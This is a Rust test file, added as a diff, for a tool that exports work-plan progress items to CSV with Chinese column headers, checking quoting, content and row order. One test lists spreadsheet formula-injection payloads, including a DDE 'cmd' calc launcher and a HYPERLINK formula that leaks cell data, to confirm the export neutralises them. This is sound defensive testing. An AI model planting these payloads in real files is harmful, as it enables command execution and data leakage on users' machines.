@@ -1,0 +1,171 @@
+//! 导出: items as a table, read again by a reader that knows only RFC 4180.
+
+use proptest::prelude::*;
+use yaodian_export::table;
+use yaodian_plan::query::{AsOf, Status};
+use yaodian_plan::{ItemId, Meeting};
+use yaodian_progress::{Author, Field, ProgressBook, Recorded, SessionId, Value};
+
+use crate::support::{PLAN, book, by, catalog, day, few, item, july, month, recorded, shown, stamp, text};
+
+const EARLY: AsOf = AsOf::Before;
+
+/// The rows of a file, each with its cells.
+fn read(file: &str) -> Vec<Vec<String>> {
+    let mut chars = file.strip_prefix('\u{feff}').expect("a byte order mark").chars().peekable();
+    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
+    while let Some(char) = chars.next() {
+        match char {
+            '"' if cell.is_empty() => loop {
+                match chars.next().expect("the end of a quoted cell") {
+                    '"' if chars.next_if_eq(&'"').is_some() => cell.push('"'),
+                    '"' => break assert!(matches!(chars.peek(), Some(',' | '\r'))),
+                    char => cell.push(char),
+                }
+            },
+            ',' => row.push(std::mem::take(&mut cell)),
+            '\r' => {
+                assert_eq!(chars.next(), Some('\n'));
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            '"' | '\n' => panic!("a cell that ought to be quoted: {cell}"),
+            char => cell.push(char),
+        }
+    }
+    assert!(row.is_empty() && cell.is_empty(), "the last row has its end");
+    rows
+}
+
+fn all(book: &ProgressBook, as_of: AsOf) -> Vec<Vec<String>> {
+    let items: Vec<usize> = catalog().all().collect();
+    read(&table(catalog(), book, &items, as_of))
+}
+
+/// One cell, by the id of its row and the name of its column.
+fn cell<'a>(rows: &'a [Vec<String>], id: &str, column: &str) -> &'a str {
+    let at = rows[0].iter().position(|name| name == column).expect(column);
+    let row = rows.iter().find(|row| row[0] == id).expect(id);
+    &row[at]
+}
+
+#[test]
+fn promise_26_a_table_has_every_item_of_the_plan_as_the_document_has_it() {
+    let rows = all(&ProgressBook::new(PLAN), EARLY);
+    assert_eq!(rows.len(), 1 + 43 + 39);
+    assert_eq!(
+        rows[0].join(" "),
+        "编号 来源 类别 序号 时间 事项 承办部门 会议 会议日期 进展 实际日期 推迟到 原因或说明 最近记录 记录数 登记人"
+    );
+    for (row, item) in rows.iter().skip(1).zip(&catalog().plan.items) {
+        assert_eq!(row.len(), 16);
+        assert_eq!(
+            [&row[0], &row[5], &row[6]],
+            [&item.id.to_string(), &item.title, &item.responsibility.text]
+        );
+    }
+    let of = |id, column| cell(&rows, id, column);
+    assert_eq!(of("s2-3", "来源"), "安排表");
+    assert_eq!(of("s2-3", "类别"), "听取和审议/听取专项工作报告");
+    assert_eq!(of("s2-3", "序号"), "3");
+    assert_eq!([of("m7-2", "来源"), of("m7-2", "类别"), of("m7-2", "序号")], ["月度任务", "", "2"]);
+    let times: Vec<&str> = rows.iter().skip(1).map(|row| row[4].as_str()).collect();
+    for time in ["7月", "全年", "时间未定"] {
+        assert!(times.contains(&time), "{time}");
+    }
+    // What the document itself reports.
+    assert_eq!(of("m1-1", "进展"), "已完成");
+}
+
+#[test]
+fn promise_26_a_table_says_what_was_recorded() {
+    let mut book = ProgressBook::new(PLAN);
+    let postponed = Recorded { status: Some(Status::Postponed(month(11))), reason: "等上级文件".into() };
+    let (ann, bob) = (stamp(1, "ann"), stamp(2, "bob"));
+    book.set(Field::Author(by("ann")), Value::Author(Author { name: "王芳".into(), unit: None }), ann);
+    book.set_status(item("m3-1"), postponed, ann);
+    book.add_note(item("m3-1"), "第一条", ann);
+    book.add_note(item("m3-1"), "第二条，\n分两行", stamp(3, "ann"));
+    book.set_status(item("m3-2"), recorded(Status::Done), bob);
+    book.set(Field::Date(item("m3-2")), Value::Date(Some(day(3, 9))), bob);
+    let brought = catalog().plan.items.iter().find(|item| {
+        SessionId::of(item, Meeting::StandingCommittee) == Some(july()) && item.meetings.len() == 1
+    });
+    let brought = brought.expect("an item of the meeting in July").id.to_string();
+    book.set(Field::SessionDate(july()), Value::Date(Some(day(7, 26))), ann);
+
+    let rows = all(&book, AsOf::Month(month(4)));
+    let of = |id, column| cell(&rows, id, column);
+    assert_eq!([of("m3-1", "进展"), of("m3-1", "推迟到")], ["已推迟", "11月"]);
+    assert_eq!([of("m3-1", "原因或说明"), of("m3-1", "最近记录")], ["等上级文件", "第二条，\n分两行"]);
+    assert_eq!([of("m3-1", "记录数"), of("m3-1", "登记人")], ["2", "王芳"]);
+    assert_eq!(
+        [of("m3-2", "进展"), of("m3-2", "实际日期"), of("m3-2", "推迟到")],
+        ["已完成", "2023-03-09", ""]
+    );
+    // A device without a name is nobody.
+    assert_eq!([of("m3-2", "记录数"), of("m3-2", "登记人")], ["0", ""]);
+    assert_eq!([of(&brought, "会议"), of(&brought, "会议日期")], ["常委会会议", "2023-07-26"]);
+    // Seen from later on it is late.
+    assert_eq!(cell(&all(&book, AsOf::Month(month(12))), "m3-1", "进展"), "已逾期");
+}
+
+#[test]
+fn a_table_has_the_items_that_were_asked_for_in_their_order() {
+    let rows = read(&table(catalog(), &ProgressBook::new(PLAN), &[5, 2, 10_000], EARLY));
+    let ids: Vec<ItemId> = [5, 2].map(|at: usize| catalog().plan.items[at].id).into();
+    assert_eq!(rows.iter().skip(1).map(|row| item(&row[0])).collect::<Vec<_>>(), ids);
+    assert_eq!(read(&table(catalog(), &ProgressBook::new(PLAN), &[], EARLY)).len(), 1);
+}
+
+#[test]
+fn promise_26_hostile_texts_stay_texts() {
+    for hostile in [
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://example.com/?\"&A1,\"看这里\")",
+        "+1+cmd|'/C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        " \u{3000}＝1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "a\",\"=1+1",
+        "a\r\n=1+1",
+        "\u{0}=1+1",
+    ] {
+        let mut book = ProgressBook::new(PLAN);
+        let recorded = Recorded { status: Some(Status::Doing), reason: hostile.into() };
+        book.set_status(item("m3-1"), recorded, stamp(1, "ann"));
+        book.add_note(item("m3-1"), hostile, stamp(1, "ann"));
+        let author = Author { name: hostile.into(), unit: None };
+        book.set(Field::Author(by("ann")), Value::Author(author), stamp(1, "ann"));
+        let rows = all(&book, EARLY);
+        assert!(rows.iter().all(|row| row.len() == 16), "{hostile:?}");
+        for column in ["原因或说明", "最近记录", "登记人"] {
+            let cell = cell(&rows, "m3-1", column);
+            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝']), "{column} {cell:?}");
+            let expected = shown(hostile);
+            assert!(cell == expected || cell.strip_prefix('\'') == Some(&expected), "{column} {cell:?}");
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(few())]
+
+    #[test]
+    fn promise_26_every_cell_can_be_read_again(book in book(), note in text()) {
+        let mut book = book;
+        book.add_note(item("m3-1"), &note, stamp(9, "ann"));
+        let rows = all(&book, AsOf::After);
+        prop_assert!(rows.len() == 83 && rows.iter().all(|row| row.len() == 16));
+        for id in ["m3-1", "s1-1", "m7-2"] {
+            let recorded = book.item(item(id));
+            let latest = recorded.live_notes().next_back().map_or("", |(_, text)| text);
+            for (column, text) in [("最近记录", latest), ("原因或说明", recorded.reason())] {
+                let (cell, text) = (cell(&rows, id, column), shown(text));
+                prop_assert!(cell == text || cell.strip_prefix('\'') == Some(&text), "{column} {cell:?} {text:?}");
+            }
+        }
+    }
+}
